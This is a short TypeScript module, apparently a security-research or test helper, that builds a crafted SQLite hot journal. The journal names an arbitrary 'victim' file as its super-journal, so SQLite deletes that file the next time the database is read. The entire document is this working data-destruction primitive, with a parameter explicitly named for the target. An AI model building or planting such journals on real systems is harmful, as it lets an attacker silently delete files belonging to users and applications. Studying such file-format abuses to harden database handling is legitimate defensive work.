import fs from 'node:fs'

const magic = Buffer.from('d9d505f920a163d7', 'hex')
const sectorSize = 512

/**
 * A journal that SQLite rolls back at the next read, and that names a super-journal, which SQLite then deletes. It
 * changes no page of the database.
 */
export function journalNaming(victim: string, database: string): Buffer {
  const head = fs.readFileSync(database).subarray(0, 100)
  const pageSize = head.readUInt16BE(16) === 1 ? 65_536 : head.readUInt16BE(16)
  const header = Buffer.alloc(sectorSize)
  magic.copy(header)
  header.writeUInt32BE(head.readUInt32BE(28), 16)
  header.writeUInt32BE(sectorSize, 20)
  header.writeUInt32BE(pageSize, 24)
  const name = Buffer.from(victim)
  const [lockPage, length, sum] = [Buffer.alloc(4), Buffer.alloc(4), Buffer.alloc(4)]
  lockPage.writeUInt32BE(Math.floor(0x4000_0000 / pageSize) + 1)
  length.writeUInt32BE(name.length)
  sum.writeInt32BE(new Int8Array(name).reduce((total, byte) => total + byte, 0))
  return Buffer.concat([header, lockPage, name, length, sum, magic])
}
